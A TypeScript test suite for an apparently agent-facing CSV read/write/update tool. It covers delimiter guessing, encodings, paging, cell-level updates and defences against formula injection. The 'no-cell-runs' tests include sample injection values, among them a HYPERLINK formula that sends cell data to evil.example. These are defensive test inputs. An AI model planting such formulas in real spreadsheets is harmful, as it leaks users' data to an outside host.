/** Promise: tables are read as text, written harmless, and updated without touching anything else. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { csvText } from '../../src/tool/csv/format.ts';
import { guarded } from '../../src/tool/csv/guard.ts';
import { csvTools, type CsvToolOptions } from '../../src/tool/csv/tools.ts';
import type { Json } from '../../src/event/json.ts';
import type { Preview } from '../../src/tool/preview.ts';
import { isStandardSchema, toJsonSchema } from '../../src/tool/schema.ts';
import { ToolError, type Reconciled, type ToolContext } from '../../src/tool/tool.ts';

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'onrecord-csv-'));
});
afterEach(() => rmSync(root, { recursive: true }));

const put = (name: string, text: string | Uint8Array): void => writeFileSync(join(root, name), text);
const get = (name: string): string => readFileSync(join(root, name), 'utf8');

const context = (base?: Json): ToolContext => ({
  signal: new AbortController().signal,
  idempotencyKey: 'session-1/2.3.4',
  attempt: 1,
  call: 's_1 2.3.4',
  log: { info: () => undefined, warn: () => undefined },
  now: () => 0,
  startedAt: 0,
  made: [],
  callTool: () => undefined,
  base,
});

type Bound = {
  readonly preview: () => Promise<Preview>;
  readonly run: (base?: Json) => Promise<unknown>;
  readonly settle: (base?: Json) => Promise<Reconciled>;
};

const call = (name: string, input: Json, options: Partial<CsvToolOptions> = {}): Bound => {
  const tool = csvTools({ root, ...options }).find((one) => one.name === `csv.${name}`);
  if (!tool) throw new Error(`no tool csv.${name}`);
  const { preview, reconcile, execute, inputSchema } = tool;
  const checked = async (): Promise<never> => {
    if (!isStandardSchema(inputSchema)) throw new Error('no schema');
    const result = await inputSchema['~standard'].validate(input);
    if (result.issues) throw new Error(JSON.stringify(result.issues));
    return result.value as never;
  };
  return {
    preview: async () => {
      if (!preview) throw new Error('no preview');
      return preview(await checked(), context());
    },
    run: async (base) => execute(await checked(), context(base)),
    settle: async (base) => {
      if (!reconcile) throw new Error('no reconcile');
      return reconcile(await checked(), context(base));
    },
  };
};

const codeOf = async (act: Promise<unknown>): Promise<string> => {
  try {
    return `returned ${JSON.stringify(await act)}`;
  } catch (error) {
    if (error instanceof ToolError) return error.code;
    throw error;
  }
};

test('every tool can say its JSON Schema', () => {
  for (const { name, inputSchema } of csvTools({ root }))
    expect(toJsonSchema(name, inputSchema)).toMatchObject({ type: 'object', additionalProperties: false });
});

describe('rows-as-text-with-the-dialect-named', () => {
  test('a mark, semicolons, CRLF and a line break inside quotes', async () => {
    put('stock.csv', '\ufeffname;qty;note\r\n"Rope; 10 m";2;"two\r\nlines"\r\nTape;1,5;"say ""hi"""\r\n');
    expect(await call('read', { path: 'stock.csv' }).run()).toMatchObject({
      note: 'delimiter ; guessed, mark removed, 2 rows, values are text',
      delimiter: ';',
      encoding: 'utf-8 with byte order mark',
      columns: ['name', 'qty', 'note'],
      rowCount: 2,
      rows: [
        { name: 'Rope; 10 m', qty: '2', note: 'two\r\nlines' },
        { name: 'Tape', qty: '1,5', note: 'say "hi"' },
      ],
    });
  });

  test.each([
    ['a,b\n1,2\n', ',', 'guessed'],
    ['a\tb\n1,5\t2,5\n', 'tab', 'guessed'],
    ['a|b\n1|2\n', '|', 'guessed'],
    ['a;b\n1,5;2,5\n3,5;4,5\n', ';', 'guessed'],
    ['name;note\nx;"a, b, c"\ny;"d, e, f"\n', ';', 'guessed'],
    ['a, b, c;d\n1;2\n3;4\n', ';', 'guessed'],
    ['sep=|\r\na|b;c\r\n1|2;3\r\n', '|', 'stated by the first line'],
    ['a,b;c\n1,2;3\n', ',', 'guessed, ; would fit too'],
  ])('%j has the delimiter %s', async (text, delimiter, source) => {
    put('t.csv', text);
    expect(await call('read', { path: 't.csv' }).run()).toMatchObject({
      delimiter,
      note: expect.stringContaining(`delimiter ${delimiter} ${source}`) as string,
    });
  });

  test('a single column, blank lines, old Mac line ends, windows-1252, UTF-16', async () => {
    put('one.csv', 'name\na\n\n""\n');
    expect(await call('read', { path: 'one.csv' }).run()).toMatchObject({
      note: 'no delimiter seen, one column, 2 rows, 1 blank line, values are text',
      rows: [{ name: 'a' }, { name: '' }],
    });
    put('mac.csv', 'a,b\r1,2\r3,4');
    expect(await call('read', { path: 'mac.csv' }).run()).toMatchObject({
      rows: [
        { a: '1', b: '2' },
        { a: '3', b: '4' },
      ],
    });
    put('old.csv', Buffer.from('größe;b\n1;2\n', 'latin1'));
    expect(await call('read', { path: 'old.csv' }).run()).toMatchObject({
      rows: [{ größe: '1', b: '2' }],
      note: 'delimiter ; guessed, read as windows-1252, 1 row, values are text',
    });
    put('wide.csv', Buffer.from('\ufeffä\tb\r\n1\t2\r\n', 'utf16le'));
    expect(await call('read', { path: 'wide.csv' }).run()).toMatchObject({ rows: [{ ä: '1', b: '2' }] });
  });

  test('columns without a name, with a name twice, rows of other lengths', async () => {
    put('t.csv', 'a,a,,__proto__\n1,2,3,4,5\n6\n');
    expect(await call('read', { path: 't.csv' }).run()).toMatchObject({
      columns: ['a', 'a (2)', 'column 3', '__proto__', 'column 5'],
      note: expect.stringContaining('2 rows with more or fewer than 4 fields, the first is row 1') as string,
    });
    const { rows } = (await call('read', { path: 't.csv' }).run()) as { rows: object[] };
    expect(rows.map((row) => JSON.stringify(row))).toEqual([
      '{"a":"1","a (2)":"2","column 3":"3","__proto__":"4","column 5":"5"}',
      '{"a":"6"}',
    ]);
    expect(await call('read', { path: 't.csv', header: false }).run()).toMatchObject({
      rowCount: 3,
      columns: { length: 5 },
    });
  });

  test('a made-up column name is never one that the file has', async () => {
    put('t.csv', 'a,a,a (2),,column 4\n1,2,3,4,5\n');
    expect(await call('read', { path: 't.csv' }).run()).toMatchObject({
      columns: ['a', 'a (3)', 'a (2)', 'column 4 (2)', 'column 4'],
    });
  });

  test('a window at a time', async () => {
    put('t.csv', `n,m\n${Array.from({ length: 2500 }, (_, at) => `${at + 1},x\n`).join('')}`);
    const seen: string[] = [];
    for (let from: number | undefined = 1; from !== undefined;) {
      const part = (await call('read', { path: 't.csv', from }).run()) as {
        rows: { n: string }[];
        next?: number;
      };
      seen.push(...part.rows.map(({ n }) => n));
      from = part.next;
    }
    expect(seen).toEqual(Array.from({ length: 2500 }, (_, at) => `${at + 1}`));
    expect(await codeOf(call('read', { path: 't.csv', from: 2501 }).run())).toBe('row-not-found');
  });

  test.each([
    ['a,b\n"1,2\n3,4\n', 'csv-malformed'],
    ['a,b\n"1"x,2\n', 'csv-malformed'],
    ['', 'csv-empty'],
    ['\n\n', 'csv-empty'],
    ['a\0b', 'not-text'],
  ])('%j is refused as %s', async (text, code) => {
    put('t.csv', text);
    expect(await codeOf(call('read', { path: 't.csv' }).run())).toBe(code);
  });
});

describe('no-cell-runs', () => {
  test('formula cells begin with an apostrophe, quoted, CRLF', async () => {
    const write = call('write', {
      path: 'out.csv',
      rows: [
        ['name', 'note'],
        ['=HYPERLINK("http://evil.example?"&A1)', '@SUM(1)'],
        ['\tcmd', '+1+1'],
      ],
    });
    const shown = await write.preview();
    expect(shown.warnings).toEqual([expect.stringContaining('4 cells begin like a formula')]);
    expect(shown.blocks).toMatchObject([{ kind: 'diff', newFile: true, added: 3 }]);
    const result = await write.run(shown.base);
    expect(result).toMatchObject({ created: true, rows: 2, guarded: 4 });
    expect(get('out.csv')).toBe(
      'name,note\r\n"\'=HYPERLINK(""http://evil.example?""&A1)","\'@SUM(1)"\r\n"\'\tcmd","\'+1+1"\r\n',
    );
    expect(await write.settle(shown.base)).toEqual({ happened: true, result });
    expect(await codeOf(write.preview())).toBe('file-exists');
  });

  test.each([
    '=1',
    ' =1',
    '\u00a0@x',
    '+1',
    '-x',
    '-',
    '-1+1',
    '-1 -1',
    '\r=1',
    '\n=1',
    '＝1',
    '-1,2,3x',
    '--1',
    '-1e9+A1',
  ])('%j is guarded', (value) => expect(guarded(value)).toBe(`'${value}`));
  test.each([
    '-12.50',
    '-12,50',
    '-1',
    '-1.234.567,89',
    '-1 234,5',
    '-1e-9',
    '-5%',
    'a=b',
    '1+1',
    "'=1",
    '',
    'x\t',
  ])('%j is not', (value) => expect(guarded(value)).toBe(value));

  test('a formula behind the delimiter of another country is quoted', () => {
    expect(
      csvText([
        ['a', 'b'],
        ['x;=1+1', 'y'],
      ]),
    ).toBe('a,b\r\n"x;=1+1",y\r\n');
  });

  test('the operator may allow formulas in a column, the header and the others stay guarded', async () => {
    const options = { allowFormulas: ['=sum'] };
    await call(
      'write',
      {
        path: 'o.csv',
        rows: [
          ['=sum', 'b'],
          ['=A1', '=B1'],
        ],
      },
      options,
    ).run();
    expect(get('o.csv')).toBe('"\'=sum",b\r\n=A1,"\'=B1"\r\n');
    put('u.csv', 'k,f,g\n1,x,y\n');
    await call(
      'update',
      { path: 'u.csv', updates: [{ where: { k: '1' }, set: { f: '=A1', g: '=B1' } }] },
      { allowFormulas: ['f'] },
    ).run();
    expect(get('u.csv')).toBe('k,f,g\n1,=A1,"\'=B1"\n');
  });

  test('what is written is what other programs read', async () => {
    const rows = [
      ['a', 'b;c', ' d'],
      ['x\ny', '"q"', ''],
      ['1,5', 'z ', '-3'],
    ];
    await call('write', { path: 'o.csv', rows, delimiter: ';', mark: true }).run();
    expect(parse(get('o.csv'), { bom: true, delimiter: ';' })).toEqual(rows);
    expect(await codeOf(call('write', { path: 'p.csv', rows: [['a', 'b'], ['1']] }).run())).toBe('row-width');
    await call('write', { path: 'one.csv', rows: [['a'], [''], ['b']] }).run();
    expect(get('one.csv')).toBe('a\r\n""\r\nb\r\n');
  });
});

const message = async (change: Json): Promise<unknown> =>
  call('update', { path: 't.csv', updates: [change] })
    .run()
    .catch((error: unknown) => (error instanceof Error ? error.message : error));

describe('an-update-touches-its-cells-alone', () => {
  const TEXT = '\ufeffid;name;"qty"\r\n7;"Rope; 10 m";2\r\n8;Tape;"1,5"\r\n\r\n9;Tape;""';

  test('cells and new rows, shown cell by cell', async () => {
    put('stock.csv', TEXT);
    const update = call('update', {
      path: 'stock.csv',
      updates: [
        { where: { id: '7' }, set: { qty: '-2,5', name: 'Rope "20 m"' } },
        { where: { name: 'Tape', id: '9' }, set: { qty: '=1+1' } },
      ],
      append: [{ id: '10', name: 'Glue;x' }],
    });
    const shown = await update.preview();
    expect(shown).toMatchObject({
      target: 'stock.csv',
      warnings: [expect.stringContaining('1 cell begins like a formula')],
      blocks: [
        {
          kind: 'cells',
          newRows: 1,
          untouchedRows: 1,
          changes: [
            { row: 1, key: '7', column: 'name', before: 'Rope; 10 m', after: 'Rope "20 m"' },
            { row: 1, key: '7', column: 'qty', before: '2', after: '-2,5' },
            { row: 3, key: 'Tape', column: 'qty', before: '', after: "'=1+1" },
            { row: 4, column: 'id', after: '10' },
            { row: 4, column: 'name', after: 'Glue;x' },
            { row: 4, column: 'qty', after: '' },
          ],
        },
      ],
    });
    const result = await update.run(shown.base);
    expect(result).toMatchObject({ cells: 3, newRows: 1, guarded: 1, created: false });
    expect(get('stock.csv')).toBe(
      '\ufeffid;name;"qty"\r\n7;"Rope ""20 m""";-2,5\r\n8;Tape;"1,5"\r\n\r\n9;Tape;"\'=1+1"\r\n10;"Glue;x";',
    );
    expect(await update.settle(shown.base)).toEqual({ happened: true, result });
    put('stock.csv', TEXT);
    expect(await update.settle(shown.base)).toEqual({ happened: false });
    put('stock.csv', `${TEXT}x`);
    expect(await update.settle(shown.base)).toMatchObject({ happened: 'unknown' });
    expect(await codeOf(update.run(shown.base))).toBe('file-changed');
  });

  test.each([
    ['a last line end', 'a,b\n1,2\n', 'a,b\n1,2\n3,\n'],
    ['none', 'a,b\r\n1,2', 'a,b\r\n1,2\r\n3,'],
    ['a header alone', 'a,b', 'a,b\r\n3,'],
    ['quotes everywhere', '"a","b"\n"1","2"\n', '"a","b"\n"1","2"\n"3",""\n'],
    ['old Mac line ends', 'a,b\r1,2\r', 'a,b\r1,2\r3,\r'],
    ['a quoted last cell with a line break', 'a,b\n1,"x\ny"', 'a,b\n1,"x\ny"\n3,'],
  ])('a row is appended to a file with %s', async (_, before, after) => {
    put('t.csv', before);
    await call('update', { path: 't.csv', append: [{ a: '3' }] }).run();
    expect(get('t.csv')).toBe(after);
  });

  test('a quoted cell stays quoted, a bare one bare', async () => {
    put('t.csv', 'a,b,c\nx,"1",2\n');
    await call('update', { path: 't.csv', updates: [{ where: { a: 'x' }, set: { b: '3', c: '4' } }] }).run();
    expect(get('t.csv')).toBe('a,b,c\nx,"3",4\n');
  });

  test('rows named by several columns, and as many as expected', async () => {
    put('t.csv', 'a,b\nx,1\nx,1\ny,1\n');
    await call('update', {
      path: 't.csv',
      updates: [{ where: { a: 'x', b: '1' }, set: { b: '2' }, expect: 2 }],
    }).run();
    expect(get('t.csv')).toBe('a,b\nx,2\nx,2\ny,1\n');
    put('n.csv', 'x,1\ny,2\n');
    await call('update', {
      path: 'n.csv',
      header: false,
      updates: [{ where: { 'column 1': 'y' }, set: { 'column 2': '3' } }],
    }).run();
    expect(get('n.csv')).toBe('x,1\ny,3\n');
    put('one.csv', 'a\nx\ny\n');
    await call('update', {
      path: 'one.csv',
      updates: [{ where: { a: 'x' }, set: { a: '' } }],
      append: [{}],
    }).run();
    expect(get('one.csv')).toBe('a\n""\ny\n""\n');
  });

  test.each([
    ['unknown-column', { updates: [{ where: { z: '1' }, set: { b: '2' } }] }],
    ['unknown-column', { updates: [{ where: { a: 'x' }, set: { z: '2' } }] }],
    ['unknown-column', { append: [{ z: '2' }] }],
    ['where-empty', { updates: [{ where: {}, set: { b: '2' } }] }],
    ['no-row-matched', { updates: [{ where: { a: 'X' }, set: { b: '2' } }] }],
    ['rows-not-expected', { updates: [{ where: { b: '1' }, set: { b: '2' } }] }],
    ['rows-not-expected', { updates: [{ where: { a: 'x' }, set: { b: '2' }, expect: 2 }] }],
    [
      'cell-set-twice',
      {
        updates: [
          { where: { a: 'x' }, set: { b: '2' } },
          { where: { a: 'x' }, set: { b: '3' } },
        ],
      },
    ],
    ['row-too-short', { updates: [{ where: { a: 'short' }, set: { b: '2' } }] }],
    ['update-changes-nothing', { updates: [{ where: { a: 'x' }, set: { b: '1' } }] }],
    ['update-changes-nothing', {}],
    ['text-not-encodable', { append: [{ a: '\ud800' }] }],
  ])('%s', async (code, change) => {
    put('t.csv', 'a,b\nx,1\ny,1\nshort\n');
    expect(await codeOf(call('update', { path: 't.csv', ...change }).run())).toBe(code);
    expect(get('t.csv')).toBe('a,b\nx,1\ny,1\nshort\n');
  });

  test('an unknown column names the columns, a wrong count the rows', async () => {
    put('t.csv', 'a,b\nx,1\ny,1\n');
    expect(await message({ where: { z: '1' }, set: { b: '2' } })).toBe(
      '"t.csv" has no column "z". Its columns are "a", "b".',
    );
    expect(await message({ where: { b: '1' }, set: { b: '2' } })).toBe(
      '2 rows have "b" = "1", and 1 was expected: row 1, 2. Add a column to "where", or set "expect" to 2.',
    );
  });
});
